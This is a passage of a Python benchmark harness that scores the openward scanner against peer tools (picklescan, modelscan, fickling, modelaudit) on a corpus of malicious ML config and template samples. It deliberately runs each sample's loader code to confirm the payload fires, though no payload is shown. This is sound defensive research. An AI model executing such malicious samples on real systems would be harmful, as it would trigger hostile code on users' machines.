    missing = [p for p in tech.live.paths if not p.exists()]
    if missing:
        return "n/a", f"loader not installed: {missing[0]}"
    marker.unlink(missing_ok=True)
    env = {k: v for k, v in os.environ.items() if k not in {"PYTHONPATH", "PYTHONHOME"}}
    env.update(
        TARGET=str(target),
        MARKER=str(marker),
        HF_HOME=str(scratch / "hf-home"),
        MLFLOW_TRACKING_URI=f"file://{scratch / 'mlruns'}",
        PYTHONWARNINGS="ignore",
    )
    env.update(dict(tech.live.env))
    if tech.live.paths:
        env["PYTHONPATH"] = os.pathsep.join(str(p) for p in tech.live.paths)
    cwd = target if target.is_dir() else target.parent
    try:
        proc = subprocess.run(
            [str(PYTHON), "-c", tech.live.code],
            cwd=cwd,
            env=env,
            capture_output=True,
            text=True,
            timeout=LIVE_TIMEOUT_S,
        )
        out = (proc.stdout + proc.stderr).strip().splitlines()
        detail = out[-1][:200] if out else f"rc {proc.returncode}"
    except subprocess.TimeoutExpired:
        detail = "timeout"
    # Popen-based payloads may finish just after the loader returns.
    for _ in range(20):
        if marker.exists():
            break
        import time

        time.sleep(0.1)
    live = marker.exists()
    marker.unlink(missing_ok=True)
    return ("live" if live else "not live"), ("" if live else detail)


# ---------------------------------------------------------------------------
# Scanners
# ---------------------------------------------------------------------------

_RANK = {"info": 0, "low": 1, "medium": 2, "high": 3, "critical": 4}


@dataclass
class Result:
    id: str
    group: str
    family: str
    loader: str
    description: str
    source: str
    target: str
    live: str = ""
    live_detail: str = ""
    detections: dict[str, bool] = field(default_factory=dict)
    details: dict[str, str] = field(default_factory=dict)


def scan_openward(target: Path, scratch: Path, src: Path) -> tuple[bool, str]:
    """``python -m openward scan TARGET --json`` with the code under ``src`` first on the path
    (this checkout's by default, so a branch is measured by its own code)."""
    from scan_peers import TIMEOUT_S, tool_env

    try:
        proc = subprocess.run(
            [str(PYTHON), "-m", "openward", "scan", str(target), "--json"],
            cwd=scratch,
            env={**tool_env(), "PYTHONPATH": str(src)},
            capture_output=True,
            text=True,
            timeout=TIMEOUT_S,
        )
    except subprocess.TimeoutExpired:
        return False, "timeout"
    try:
        findings = json.loads(proc.stdout)["findings"]
    except (json.JSONDecodeError, KeyError):
        return False, "error: " + (proc.stderr.strip().splitlines() or ["?"])[-1][:160]
    high = sorted(
        {f"{f['rule_id']}/{f['severity']}" for f in findings if _RANK[f["severity"]] >= 3}
    )
    rest = sorted({f"{f['rule_id']}/{f['severity']}" for f in findings if _RANK[f["severity"]] < 3})
    return bool(high), ", ".join(high or rest) or "no findings"


def scan_peer(name: str, target: Path, scratch: Path) -> tuple[bool, str]:
    from scan_peers import TOOL_CLASSES

    tool = TOOL_CLASSES[name](scratch)
    sample = SimpleNamespace(malicious=True)
    if name == "fickling" and target.is_dir():
        files = sorted(p for p in target.rglob("*") if p.is_file())
        verdicts = [tool.scan(sample, p) for p in files]  # type: ignore[arg-type]
        hits = [f"{p.name}: {v.detail}" for p, v in zip(files, verdicts, strict=True) if v.hit]
        return bool(hits), "; ".join(hits)[:200] or "nothing on any file"
    verdict = tool.scan(sample, target)  # type: ignore[arg-type]
    note = f" [{verdict.note}]" if verdict.note else ""
    return verdict.hit, (verdict.detail + note)[:200]


# ---------------------------------------------------------------------------
# Report
# ---------------------------------------------------------------------------


def versions(src: Path) -> dict[str, str]:
    from importlib.metadata import version

    from scan_peers import PEER_BIN

    out = {"python": platform.python_version(), "openward": version("openward")}
    commit = subprocess.run(
        ["git", "-C", str(src), "rev-parse", "--short", "HEAD"], capture_output=True, text=True
    ).stdout.strip()
    out["openward commit"] = commit
    for lib in (
        "jinja2",
        "transformers",
        "hydra-core",
        "omegaconf",
        "hyperpyyaml",
        "mlflow-skinny",
        "tables",
        "pandas",
        "gguf",
    ):
        try:
            out[lib] = version(lib)
        except Exception:
            out[lib] = "missing"
    peer_py = PEER_BIN / "python"
    if peer_py.exists():
        code = (
            "from importlib.metadata import version as v\n"
            "for p in ('picklescan','modelscan','fickling','modelaudit'):\n"
            "    print(p, v(p))"
        )
        listing = subprocess.run([str(peer_py), "-c", code], capture_output=True, text=True).stdout
        for line in listing.splitlines():
            name, _, ver = line.partition(" ")
            out[name] = ver
    return out


def markdown(results: list[Result], tools: list[str], meta: dict[str, Any]) -> str:
    lines = [
        f"Held-out config/template/remote-code corpus — {meta['label']}, {meta['date']}",
        "",
        "Versions: " + ", ".join(f"{k} {v}" for k, v in meta["versions"].items()),
        "",
        "| technique | group | family | live | " + " | ".join(tools) + " |",
        "|---|---|---|---|" + "---|" * len(tools),
    ]
    for r in results:
        cells = ["✓" if r.detections.get(t) else "✗" for t in tools]
        lines.append(f"| {r.id} | {r.group} | {r.family} | {r.live} | " + " | ".join(cells) + " |")
    for group in sorted({r.group for r in results}):
        members = [r for r in results if r.group == group]
        live = [r for r in members if r.live == "live"]
        lines += [
            "",
            f"Totals, {group} ({len(members)} techniques, {len(live)} proven live here):",
            "",
        ]
        for t in tools:
            all_hits = sum(bool(r.detections.get(t)) for r in members)
            live_hits = sum(bool(r.detections.get(t)) for r in live)
            lines.append(
                f"- {t}: {all_hits}/{len(members)} detected ({live_hits}/{len(live)} of the live)"
            )
    lines += ["", "Details (what each tool reported):", ""]
    for r in results:
        lines.append(f"- **{r.id}** ({r.live}{': ' + r.live_detail if r.live_detail else ''})")
        for t in tools:
            lines.append(f"  - {t}: {r.details.get(t, '')}")
    return "\n".join(lines) + "\n"


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0] if __doc__ else None)
    parser.add_argument(
        "--out", type=Path, default=REPO / "benchmarks" / "results" / "heldout-config"
    )
    parser.add_argument("--no-live", action="store_true")
    parser.add_argument("--no-scan", action="store_true")
    parser.add_argument("--tools", default="openward,modelaudit,modelscan,picklescan,fickling")
    parser.add_argument("--only", default="")
    parser.add_argument("--group", default="", help="held-out or phase-2 (default: both)")
    parser.add_argument(
        "--openward-src",
        type=Path,
        default=REPO / "src",
        help="openward sources to scan with (default: this checkout's)",
    )
    parser.add_argument("--label", default="untuned")
    parser.add_argument("--list", action="store_true")
    args = parser.parse_args(argv)

    techniques = TECHNIQUES
    if args.only:
        wanted = set(args.only.split(","))
        techniques = [t for t in TECHNIQUES if t.id in wanted]
    if args.group:
        techniques = [t for t in techniques if t.group == args.group]
    if args.list:
        for t in techniques:
            print(f"{t.id:40} {t.family:14} {t.description}")
        return 0
    tools = [t for t in args.tools.split(",") if t]
    args.out.mkdir(parents=True, exist_ok=True)
    root = Path(tempfile.mkdtemp(prefix="ow-heldout-config-"))
    markers = root / "markers"
    markers.mkdir()
    scratch = root / "scratch"
    scratch.mkdir()
    results: list[Result] = []
    exit_code = 0
    try:
        built: list[tuple[Technique, Path, Path]] = []
        for tech in techniques:
            marker = markers / tech.id
            target = tech.build(root / "corpus" / tech.id, marker)
            built.append((tech, target, marker))
            results.append(
                Result(
                    tech.id,
                    tech.group,
                    tech.family,
                    tech.loader,
                    tech.description,
                    tech.source,
                    str(target.relative_to(root)),
                )
            )
        for (tech, target, marker), res in zip(built, results, strict=True):
            if not args.no_live:
                res.live, res.live_detail = check_live(tech, target, marker, scratch)
                print(f"{tech.id}: {res.live} {res.live_detail}", file=sys.stderr)
        if not args.no_scan:
            for (tech, target, _marker), res in zip(built, results, strict=True):
                for tool in tools:
                    hit, detail = (
                        scan_openward(target, scratch, args.openward_src)
                        if tool == "openward"
                        else scan_peer(tool, target, scratch)
                    )
                    res.detections[tool] = hit
                    res.details[tool] = detail
                print(
                    f"{tech.id}: " + " ".join(f"{t}={int(res.detections[t])}" for t in tools),
                    file=sys.stderr,
                )
            leaked = sorted(p.name for p in markers.iterdir())
            if leaked:
                print(f"MARKERS CREATED DURING SCANS: {leaked}", file=sys.stderr)
                exit_code = 3
    finally:
        shutil.rmtree(root, ignore_errors=True)
    meta = {
        "label": args.label,
        "date": datetime.date.today().isoformat(),
        "versions": versions(args.openward_src),
        "machine": f"{platform.machine()} {os.cpu_count()} CPUs",
    }
    (args.out / "config_techniques.json").write_text(
        json.dumps(
            {"meta": meta, "tools": tools, "results": [asdict(r) for r in results]}, indent=2
        )
    )
    report = markdown(results, tools, meta) if not args.no_scan else ""
    (args.out / "config_techniques.md").write_text(report)
    print(report or json.dumps([asdict(r) for r in results], indent=1))
    return exit_code


if __name__ == "__main__":
    sys.exit(main())
